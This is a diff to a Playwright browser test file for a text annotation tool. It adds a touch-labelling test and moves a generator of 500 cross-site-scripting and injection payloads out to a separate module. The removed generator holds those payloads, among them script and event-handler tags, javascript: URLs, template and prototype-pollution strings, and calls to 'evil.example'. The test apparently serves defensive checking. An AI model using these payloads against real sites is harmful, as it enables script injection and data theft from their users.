@@ -2,7 +2,7 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
 import type { AxeResults } from 'axe-core';
-import type { Page } from 'playwright-core';
+import type { Locator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AnnotationServer } from '../../src/annotation/server/annotation-server.js';
 import type { SessionOptions } from '../../src/annotation/session/session-options.js';
@@ -10,7 +10,10 @@ import { strategyOf } from '../../src/annotation/strategies/strategies.js';
 import { spansTask, tagsTask } from '../../src/annotation/task/annotation-task.js';
 import { workspace } from '../cli/commands/workspace.js';
 import { chromiumFile, startChromium } from '../reports/chromium.js';
+import { payloads } from './payloads.js';
 import { openSample, sampleQueue } from './sample-session.js';
+
+type Point = { readonly x: number; readonly y: number };
 
 const folder = workspace();
 const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
@@ -158,6 +161,48 @@ describe.skipIf(chromiumFile === undefined)('the page of annotate, in Chromium,'
       [/507/],
     ));
 
+  it('labels by touch: a tap, a finger moved over several, buttons', () =>
+    opened(undefined, {}, async (page, out) => {
+      const touch = await page.context().newCDPSession(page);
+      await touch.send('Emulation.setTouchEmulationEnabled', { enabled: true });
+      const middle = async (place: Locator) => {
+        const box = (await place.boundingBox())!;
+        return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
+      };
+      const put = (type: 'touchStart' | 'touchMove' | 'touchEnd', ...touchPoints: Point[]) =>
+        touch.send('Input.dispatchTouchEvent', { type, touchPoints });
+      const tap = async (place: Locator) => {
+        await place.scrollIntoViewIfNeeded();
+        await put('touchStart', await middle(place));
+        await put('touchEnd');
+      };
+      const token = (text: string) => page.locator('.token', { hasText: text });
+      const button = (name: RegExp) => page.getByRole('button', { name });
+      await tap(token('Oslo'));
+      await page.locator('.token.cursor', { hasText: 'Oslo' }).waitFor();
+      await tap(button(/LOC$/));
+      await expect.poll(() => heardTokens(page)).toContain('Oslo: LOC, set');
+      await put('touchStart', await middle(token('Anna')));
+      for (const text of ['flew', 'to']) await put('touchMove', await middle(token(text)));
+      await put('touchEnd');
+      await expect.poll(() => page.locator('.token.selected').count()).toBe(3);
+      await tap(button(/PER$/));
+      await expect
+        .poll(() => heardTokens(page))
+        .toEqual([
+          'Anna: PER, set',
+          'flew: PER, set',
+          'to: PER, set',
+          'Oslo: LOC, set',
+          '.: no label',
+        ]);
+      await tap(button(/accept/i));
+      await answered(page, 1);
+      expect(JSON.parse(readFileSync(out, 'utf8')).tags).toEqual([
+        ...['B-PER', 'I-PER', 'I-PER', 'B-LOC', 'O'],
+      ]);
+    }));
+
   it('has keys that can be changed, and stay so', () =>
     opened(undefined, {}, async page => {
       await page.keyboard.press('?');
@@ -263,44 +308,3 @@ describe.skipIf(chromiumFile === undefined)('the page of annotate, in Chromium,'
     );
   }
 });
-
-/** Texts that take effect where text becomes markup, script, address or JSON: 500 of them. */
-function payloads(): string[] {
-  const act = [
-    'taken=1',
-    'window.taken++',
-    "top['taken']=1",
-    'alert(1)',
-    'fetch("//evil.example")',
-  ];
-  const frames = [
-    (js: string) => `<script>${js}</script>`,
-    (js: string) => `</script><script>${js}</script>`,
-    (js: string) => `<img src=x onerror="${js}">`,
-    (js: string) => `<svg onload=${js}>`,
-    (js: string) => `"><svg/onload='${js}'>`,
-    (js: string) => `' onmouseover='${js}`,
-    (js: string) => `<a href="javascript:${js}">x</a>`,
-    (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
-    (js: string) => `<style>@import '//evil.example'</style>${js}`,
-    (js: string) => `<form action=//evil.example><button autofocus onfocus=${js}>`,
-    (js: string) => `{{constructor.constructor('${js}')()}}`,
-    (js: string) => `\${${js}}`,
-    (js: string) => `","x":"<b onclick=${js}>","__proto__":{"y":1}`,
-    (js: string) => `\u2028\u2029<i autofocus tabindex=0 onfocus=${js}>`,
-    (js: string) => `<object data="data:text/html,<script>${js}</script>">`,
-    (js: string) => `<details open ontoggle=${js}>`,
-    (js: string) => `<math><mi xlink:href="data:x,<script>${js}</script>">`,
-    (js: string) => `]]><!--<img src=x onerror=${js}>-->`,
-    (js: string) => `<base href="//evil.example/">${js}`,
-    (js: string) => `javascript:${js}//`,
-  ];
-  const wraps = [
-    (text: string) => text,
-    (text: string) => text.toUpperCase(),
-    (text: string) => `a ${text} b`,
-    (text: string) => text.replaceAll('"', '&quot;').replaceAll("'", '`'),
-    (text: string) => `\u202e${text}\0`,
-  ];
-  return wraps.flatMap(wrap => frames.flatMap(frame => act.map(js => wrap(frame(js)))));
-}
